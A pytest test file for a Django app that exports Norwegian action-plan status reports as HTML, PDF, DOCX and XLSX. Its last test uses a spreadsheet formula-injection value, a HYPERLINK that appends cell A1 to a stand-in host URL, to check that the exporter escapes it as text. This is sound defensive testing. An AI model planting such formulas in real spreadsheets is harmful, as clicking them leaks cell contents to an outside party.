"""Every report format is produced, opens in its own library, and says what the plan says."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from tallrapport.accounts.models import User
from tallrapport.plans.models import ActionPlan, Measure, MeasureStatus
from tallrapport.plans.reports import render_report
from tests.conftest import client_for

SENTENCE = "Av totalt 28 tiltak i handlingsplanen er 4 pågående og 24 ferdigstilt."


def test_html_file_is_standalone_and_has_the_overview(plan_2017: ActionPlan) -> None:
    content, fmt = render_report(plan_2017, 2020, "html")
    html = content.decode()
    assert fmt.content_type.startswith("text/html")
    assert '<html lang="nb">' in html
    assert SENTENCE in html
    assert "Tiltak 18 a) Gjennomføre kampanjer" in html
    assert "<style>" in html  # the exported file carries its stylesheet
    # a contact is a role at an organisation ("Seniorrådgiver i Bufdir"), never a person's name
    contacts = re.findall(r"<dt>Kontakt</dt><dd>(.*?)</dd>", html)
    assert all(re.fullmatch(r"[A-ZÆØÅ][a-zæøå]+ i \S.*", c) for c in contacts), contacts


def test_pdf_is_tagged_a4_and_has_the_text(plan_2017: ActionPlan) -> None:
    content, _fmt = render_report(plan_2017, 2020, "pdf")
    assert content.startswith(b"%PDF")
    # poppler-utils (Debian) reads the text back and reports the tagging.
    if pdftotext := shutil.which("pdftotext"):
        text = subprocess.run(
            [pdftotext, "-layout", "-", "-"], input=content, capture_output=True, check=True
        ).stdout.decode()
        assert " ".join(SENTENCE.split()) in " ".join(text.split())
        assert "Innsatsområde 5: Styrke forskning og øke kunnskapsdeling" in " ".join(text.split())
    if pdfinfo := shutil.which("pdfinfo"):
        info = subprocess.run(
            [pdfinfo, "-"], input=content, capture_output=True, check=True
        ).stdout.decode()
        assert "Tagged:          yes" in info
        assert "A4" in info


def test_docx_reopens_with_headings_and_table(plan_2017: ActionPlan) -> None:
    content, _fmt = render_report(plan_2017, 2020, "docx")
    document = Document(io.BytesIO(content))
    headings = [
        (p.style.name, p.text)
        for p in document.paragraphs
        if p.style and p.style.name.startswith(("Heading", "Title"))
    ]
    texts = [text for _style, text in headings]
    assert ("Heading 1", "Oversikt over status for tiltak") in headings
    assert ("Heading 1", "Innsatsområde 1: Et styrket rettsvern for utsatte personer") in headings
    assert any(text.startswith("Tiltak 1. Vurdere innstramminger") for text in texts)
    assert ("Heading 3", "Tiltak 18 a) Gjennomføre kampanjer") in headings
    assert SENTENCE in [p.text for p in document.paragraphs]
    table = document.tables[0]
    assert [c.text for c in table.rows[0].cells] == ["Nr.", "Tiltak", "Ansvarlig dep.", "Status"]
    assert document.core_properties.language == "nb-NO"


def test_docx_of_the_2021_plan_has_result_goals_and_achievement(plan_2021: ActionPlan) -> None:
    content, _fmt = render_report(plan_2021, 2022, "docx")
    paragraphs = [p.text for p in Document(io.BytesIO(content)).paragraphs]
    assert (
        "Resultatmål 1: Ansatte i flyktningtjenesten i alle fylker har fått tilbud om opplæring."
        in paragraphs
    )
    assert "Måloppnåelse 1: Delvis nådd: åtte av elleve fylker har fått tilbud." in paragraphs
    assert (
        "Budsjett: Kr 1\u00a0500\u00a0000 på post 21. "
        "Innenfor IMDis driftsbevilgning; 1,5 mill. kroner årlig." in paragraphs
    )


def test_xlsx_reopens_with_numbers_as_numbers(plan_2017: ActionPlan) -> None:
    content, _fmt = render_report(plan_2017, 2020, "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Oversikt", "Alle statuser", "Måloppnåelse"]
    overview = workbook["Oversikt"]
    assert overview["B2"].value == 2020
    assert overview["A3"].value == SENTENCE
    counts = {
        overview.cell(row=r, column=1).value: overview.cell(row=r, column=2).value
        for r in range(6, 12)
    }
    assert counts["Pågående"] == 4 and counts["Ferdigstilt"] == 24 and counts["Totalt"] == 28
    assert all(isinstance(v, int) for v in counts.values())
    rows = list(workbook["Alle statuser"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 37  # 23 measures without sub-measures + 14 sub-measures, for 2020
    year, area, number, letter, _title, ministry, status, _text, closed = rows[0]
    assert (year, area, number, letter, ministry, status, closed) == (
        2020,
        1,
        1,
        None,
        "BFD",
        "Ferdigstilt",
        "ja",
    )
    assert isinstance(year, int) and isinstance(number, int)


@pytest.mark.parametrize("fmt", ["html", "pdf", "docx", "xlsx"])
def test_download_view_serves_each_format(plan_2017: ActionPlan, analyst: User, fmt: str) -> None:
    response = client_for(analyst).get(
        reverse("plan_report_download", args=[plan_2017.slug, 2020, fmt])
    )
    assert response.status_code == 200
    assert len(response.content) > 1000
    assert (
        f'filename="handlingsplan-2017-2020-status-2020.{fmt}"' in response["Content-Disposition"]
    )


@pytest.mark.parametrize("fmt", ["html", "pdf", "docx", "xlsx"])
def test_command_writes_each_format(plans: list[ActionPlan], tmp_path: Path, fmt: str) -> None:
    call_command("plan_report", plan="2017-2020", year=2020, fmt=fmt, output=tmp_path)
    written = tmp_path / f"handlingsplan-2017-2020-status-2020.{fmt}"
    assert written.stat().st_size > 1000


def test_xlsx_writes_typed_text_that_looks_like_a_formula_as_text(plan_2021: ActionPlan) -> None:
    # given a measure whose status text and title start like formulas
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Klikk her")'
    status = (
        MeasureStatus.objects.filter(measure__plan=plan_2021, reporting_year__closed=False)
        .select_related("measure", "reporting_year")
        .first()
    )
    assert status is not None
    Measure.objects.filter(pk=status.measure.pk).update(title="+" + hostile)
    MeasureStatus.objects.filter(pk=status.pk).update(text=hostile)
    year = status.reporting_year.year
    # when another user downloads the plan report as a spreadsheet
    content, _fmt = render_report(plan_2021, year, "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    # then no cell anywhere is a formula, and the typed text is there as text
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + hostile in values
    assert "'+" + hostile in values
    # and the years and numbers stay numbers
    assert workbook["Alle statuser"]["A2"].data_type == "n"
